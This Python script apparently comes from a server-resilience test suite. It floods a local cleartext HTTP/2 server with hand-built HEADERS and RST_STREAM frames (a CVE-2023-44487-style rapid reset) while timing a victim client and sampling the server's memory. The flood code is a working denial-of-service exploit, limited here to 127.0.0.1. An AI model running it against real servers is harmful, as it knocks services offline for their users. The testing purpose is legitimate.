#!/usr/bin/env python3
"""HTTP/2 rapid-reset flood across connections (CVE-2023-44487 style), with a victim client and
a sampler of the server process, against any h2c (cleartext, prior knowledge) server on 127.0.0.1.

    h2_flood.py --port N --pid SERVER_PID [--path /100k.bin] [--seconds 10] [--connections 4]
                [--per-connection 900] [--victim-path /hello] [--victim-proto h2c|h1] [--json]

Three things run at once, all bounded by --seconds and stopping by themselves:
  attack   --connections processes; each one, until the deadline: connect, send the preface, an
           empty SETTINGS and --per-connection x (HEADERS GET --path with END_STREAM, RST_STREAM
           CANCEL) as one write, then close without reading. The frames are built once, by hand
           (a fixed HPACK block, literals "without indexing" so it can be repeated verbatim), so
           the attacker costs next to no CPU per request. Processes, not threads: no GIL.
  victim   every --victim-interval s one ordinary request (GET --victim-path) on a fresh
           connection (h2c by default, so it works on nginx's h2c-only port too; or h1) with a
           --victim-timeout s budget for connect + response; counts successes, timeouts, errors
           and latency. A failed request counts with the time it took in the percentiles.
  sampler  every --sample-interval s: VmRSS from /proc/PID/status and the entries of /proc/PID/fd,
           summed over PID and its child processes (nginx: master + workers).
After the attack the sampler goes on for --settle s (RSS "after" = its last sample), then victim
requests are retried for up to --recovery-wait s to time when the server answers again. If the server's RSS passes --rss-limit-mb the
attack stops early (the machine has no swap; a runaway server must not take it down).
Prints a readable summary on stderr, and with --json one JSON line on stdout.
Python: the stdlib, plus the `h2` package for the h2c victim (scripts/deps.sh makes
/tmp/quantum-h2-venv with it).
"""
import argparse
import json
import multiprocessing
import os
import socket
import statistics
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8


# ---------------------------------------------------------------- frames, by hand
def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream_id) + payload


def hpack_int(value, prefix_bits, first_byte_flags):
    """RFC 7541 5.1 integer with an N-bit prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = [first_byte_flags | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal_without_indexing(static_name_index, value):
    """Literal header field without indexing, name from the static table (RFC 7541 6.2.2):
    decoding it leaves the dynamic table alone, so the same bytes are valid on every stream."""
    v = value.encode()
    return hpack_int(static_name_index, 4, 0x00) + hpack_int(len(v), 7, 0x00) + v


def request_block(path, authority):
    # 0x82 = indexed :method GET, 0x86 = indexed :scheme http (static table 2 and 6);
    # :path is static name 4, :authority static name 1.
    return b"\x82\x86" + literal_without_indexing(4, path) + literal_without_indexing(1, authority)


def attack_payload(path, authority, count):
    """Everything one attack connection writes: preface, SETTINGS, count x (HEADERS, RST_STREAM)."""
    block = request_block(path, authority)
    parts = [PREFACE, frame(SETTINGS, 0, 0)]
    for i in range(count):
        sid = 1 + 2 * i
        parts.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, block))
        parts.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
    return b"".join(parts)


# ---------------------------------------------------------------- attack (one process per connection slot)
def attacker(slot, port, payload, per_conn, deadline, stop, counters):
    """Connect, write the whole payload, close; again until the deadline or `stop`.
    counters[slot*4 + 0..3] = requests fully written, connections, connect errors, write errors."""
    header_len = len(PREFACE) + 9
    pair_len = (len(payload) - header_len) // per_conn
    base = slot * 4
    while time.monotonic() < deadline and not stop.is_set():
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2.0)
        except OSError:
            counters[base + 2] += 1
            time.sleep(0.01)  # e.g. ECONNREFUSED from a dead server: don't spin
            continue
        counters[base + 1] += 1
        sent = 0
        try:
            view = memoryview(payload)
            while sent < len(payload) and time.monotonic() < deadline:
                sent += s.send(view[sent:])
        except OSError:  # reset / GOAWAY-and-close by the server, or a 2 s stall
            counters[base + 3] += 1
        finally:
            s.close()
        counters[base + 0] += max(0, min(per_conn, (sent - header_len) // pair_len))


# ---------------------------------------------------------------- victim
def victim_request_h1(port, path, timeout):
    t0 = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while True:
            s.settimeout(max(0.001, timeout - (time.monotonic() - t0)))
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    status = data.split(b"\r\n", 1)[0].split(b" ")
    return len(status) > 1 and status[1] == b"200"


def victim_request_h2c(port, path, timeout):
    import h2.config
    import h2.connection
    import h2.events

    t0 = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        conn.send_headers(1, [(":method", "GET"), (":scheme", "http"), (":path", path),
                              (":authority", f"127.0.0.1:{port}")], end_stream=True)
        s.sendall(conn.data_to_send())
        status = None
        while True:
            s.settimeout(max(0.001, timeout - (time.monotonic() - t0)))
            chunk = s.recv(65536)
            if not chunk:
                return False
            for ev in conn.receive_data(chunk):
                if isinstance(ev, h2.events.ResponseReceived):
                    status = dict(ev.headers).get(":status")
                elif isinstance(ev, h2.events.DataReceived):
                    conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                elif isinstance(ev, h2.events.StreamEnded):
                    return status == "200"
                elif isinstance(ev, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    return False
            out = conn.data_to_send()
            if out:
                s.sendall(out)


def victim_once(args):
    """-> (outcome, seconds) with outcome 'ok', 'timeout' or 'error'."""
    fn = victim_request_h2c if args.victim_proto == "h2c" else victim_request_h1
    t0 = time.monotonic()
    try:
        outcome = "ok" if fn(args.victim_port, args.victim_path, args.victim_timeout) else "error"
    except socket.timeout:
        outcome = "timeout"
    except OSError:
        outcome = "error"
    return outcome, time.monotonic() - t0


def victim_loop(args, deadline, stop, results):
    """One request every interval (never two at once: a slow one delays the next)."""
    next_at = time.monotonic()
    while not stop.is_set():
        now = time.monotonic()
        if now >= deadline:
            break
        if now < next_at:
            stop.wait(min(next_at, deadline) - now)
            continue
        next_at += args.victim_interval
        results.append(victim_once(args))
        next_at = max(next_at, time.monotonic())


# ---------------------------------------------------------------- sampler
def process_tree(pid):
    """pid and its direct children (enough for nginx: master + workers)."""
    pids = [pid]
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
            if int(fields[1]) == pid:  # field 4, ppid
                pids.append(int(entry))
        except (OSError, IndexError, ValueError):
            pass
    return pids


def sample(pid):
    """-> (rss_kib, fds) summed over the tree, or None when the server is gone."""
    if not os.path.exists(f"/proc/{pid}"):
        return None
    rss = fds = 0
    for p in process_tree(pid):
        try:
            with open(f"/proc/{p}/status") as f:
                for line in f:
                    if line.startswith("VmRSS:"):
                        rss += int(line.split()[1])
                        break
            fds += len(os.listdir(f"/proc/{p}/fd"))
        except OSError:  # a process that just ended
            pass
    return rss, fds


def sampler_loop(pid, interval, stop, samples, rss_limit_kib, over_limit):
    while not stop.is_set():
        s = sample(pid)
        samples.append((time.monotonic(), s))
        if s and rss_limit_kib and s[0] > rss_limit_kib:
            over_limit.set()
        stop.wait(interval)


# ---------------------------------------------------------------- main
def percentile(values, p):
    if not values:
        return None
    values = sorted(values)
    return values[min(len(values) - 1, int(round(p / 100 * (len(values) - 1))))]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--port", type=int, required=True, help="h2c (prior knowledge) port on 127.0.0.1")
    ap.add_argument("--pid", type=int, required=True, help="server process to sample (nginx: the master)")
    ap.add_argument("--path", default="/100k.bin", help="path the attack requests")
    ap.add_argument("--seconds", type=float, default=10, help="attack duration")
    ap.add_argument("--connections", type=int, default=4, help="parallel attacker connections (processes)")
    ap.add_argument("--per-connection", type=int, default=900, help="HEADERS+RST_STREAM pairs per connection")
    ap.add_argument("--victim-path", default="/hello")
    ap.add_argument("--victim-port", type=int, help="default: --port")
    ap.add_argument("--victim-proto", choices=["h2c", "h1"], default="h2c")
    ap.add_argument("--victim-interval", type=float, default=0.1)
    ap.add_argument("--victim-timeout", type=float, default=2.0)
    ap.add_argument("--sample-interval", type=float, default=0.25)
    ap.add_argument("--settle", type=float, default=3.0, help="seconds to keep sampling after the attack")
    ap.add_argument("--recovery-wait", type=float, default=10.0,
                    help="after the settle time, retry the victim request for up to this many seconds")
    ap.add_argument("--rss-limit-mb", type=float, default=4096, help="stop the attack early above this (0: never)")
    ap.add_argument("--label", default="", help="name put in the JSON line")
    ap.add_argument("--json", action="store_true", help="print one JSON summary line on stdout")
    args = ap.parse_args()
    args.victim_port = args.victim_port or args.port
    if args.per_connection < 1 or args.per_connection > (1 << 30):
        ap.error("--per-connection out of range")
    if args.victim_proto == "h2c":
        try:
            import h2.connection  # noqa: F401
        except ImportError:
            ap.error("the h2c victim needs the `h2` package (/tmp/quantum-h2-venv/bin/python), or use --victim-proto h1")
    if sample(args.pid) is None:
        ap.error(f"no process {args.pid}")

    payload = attack_payload(args.path, f"127.0.0.1:{args.port}", args.per_connection)
    rss_before_kib = sample(args.pid)[0]

    # Attack processes first (forked before any thread of ours exists), then victim and sampler.
    ctx = multiprocessing.get_context("fork")
    stop = ctx.Event()
    counters = ctx.Array("q", 4 * args.connections, lock=False)
    t_start = time.monotonic()
    deadline = t_start + args.seconds
    procs = [ctx.Process(target=attacker, args=(i, args.port, payload, args.per_connection, deadline, stop, counters),
                         daemon=True) for i in range(args.connections)]
    for p in procs:
        p.start()

    samples, victim_results = [], []
    sampler_stop, victim_stop, over_limit = threading.Event(), threading.Event(), threading.Event()
    sampler = threading.Thread(target=sampler_loop, daemon=True,
                               args=(args.pid, args.sample_interval, sampler_stop, samples,
                                     args.rss_limit_mb * 1024, over_limit))
    victim = threading.Thread(target=victim_loop, args=(args, deadline, victim_stop, victim_results), daemon=True)
    sampler.start()
    victim.start()

    # Wait for the deadline, or stop early when the server passes the RSS limit or dies.
    stopped_early = ""
    while time.monotonic() < deadline:
        if over_limit.is_set():
            stopped_early = f"server RSS above {args.rss_limit_mb:.0f} MB"
            break
        if samples and samples[-1][1] is None:
            stopped_early = "server process gone"
            break
        time.sleep(0.05)
    stop.set()
    victim_stop.set()
    t_attack_end = time.monotonic()
    for p in procs:
        p.join(timeout=5)
        if p.is_alive():
            p.kill()
            p.join(timeout=5)
    victim.join(timeout=args.victim_timeout + 5)
    attack_seconds = time.monotonic() - t_start

    # Settle: keep sampling, then one more victim request (does the server answer again?).
    time.sleep(max(0.0, t_attack_end + args.settle - time.monotonic()))
    sampler_stop.set()
    sampler.join(timeout=5)
    after = sample(args.pid)
    # Recovery: victim requests (one at a time, 0.5 s apart) until one succeeds, for at most
    # --recovery-wait s; the time is counted from the end of the attack.
    post_outcome, post_seconds, recovered_after = "error", 0.0, None
    probe_deadline = time.monotonic() + args.recovery_wait
    first = True
    while after and (first or time.monotonic() < probe_deadline):
        outcome, took = victim_once(args)
        if first:
            post_outcome, post_seconds, first = outcome, took, False
        if outcome == "ok":
            recovered_after = time.monotonic() - t_attack_end
            break
        time.sleep(max(0.0, min(0.5 - took, probe_deadline - time.monotonic())))

    live = [s for _, s in samples if s] + ([after] if after else [])
    n = args.connections
    sent = sum(counters[i * 4 + 0] for i in range(n))
    outcomes = [o for o, _ in victim_results]
    latencies = [t * 1000 for _, t in victim_results]
    ok = outcomes.count("ok")
    summary = {
        "label": args.label,
        "attack_seconds": round(attack_seconds, 2),
        "attack_requests": sent,
        "attack_rate_per_s": round(sent / attack_seconds) if attack_seconds else 0,
        "attack_connections": sum(counters[i * 4 + 1] for i in range(n)),
        "attack_connect_errors": sum(counters[i * 4 + 2] for i in range(n)),
        "attack_write_errors": sum(counters[i * 4 + 3] for i in range(n)),
        "stopped_early": stopped_early,
        "rss_before_mb": round(rss_before_kib / 1024, 1),
        "peak_rss_mb": round(max(s[0] for s in live) / 1024, 1) if live else None,
        "rss_after_mb": round(after[0] / 1024, 1) if after else None,
        "peak_fds": max(s[1] for s in live) if live else None,
        "fds_after": after[1] if after else None,
        "victim_requests": len(outcomes),
        "victim_ok": ok,
        "victim_timeouts": outcomes.count("timeout"),
        "victim_errors": outcomes.count("error"),
        "victim_success_ratio": round(ok / len(outcomes), 3) if outcomes else None,
        "victim_p50_ms": round(percentile(latencies, 50), 1) if latencies else None,
        "victim_p99_ms": round(percentile(latencies, 99), 1) if latencies else None,
        "victim_ok_median_ms": round(statistics.median(t * 1000 for o, t in victim_results if o == "ok"), 1) if ok else None,
        "post_attack_request": post_outcome,
        "post_attack_ms": round(post_seconds * 1000, 1),
        "recovered_after_s": round(recovered_after, 1) if recovered_after is not None else None,
        "server_alive": after is not None,
    }
    s = summary
    print(f"[h2_flood {args.label or args.port}] attack {s['attack_requests']} HEADERS+RST in {s['attack_seconds']} s "
          f"({s['attack_rate_per_s']}/s over {s['attack_connections']} connections, {s['attack_connect_errors']} connect "
          f"errors, {s['attack_write_errors']} write errors){' stopped early: ' + stopped_early if stopped_early else ''}\n"
          f"  server RSS {s['rss_before_mb']} MB before, peak {s['peak_rss_mb']} MB, {s['rss_after_mb']} MB "
          f"{args.settle:g} s after; peak fds {s['peak_fds']} ({s['fds_after']} after); alive {s['server_alive']}\n"
          f"  victim {ok}/{len(outcomes)} ok ({s['victim_timeouts']} timeouts, {s['victim_errors']} errors), "
          f"p50 {s['victim_p50_ms']} ms, p99 {s['victim_p99_ms']} ms; after the attack: {post_outcome} "
          f"in {s['post_attack_ms']} ms, answering again after "
          f"{s['recovered_after_s'] if recovered_after is not None else f'> {args.settle + args.recovery_wait:g}'} s",
          file=sys.stderr)
    if args.json:
        print(json.dumps(summary), flush=True)


if __name__ == "__main__":
    main()
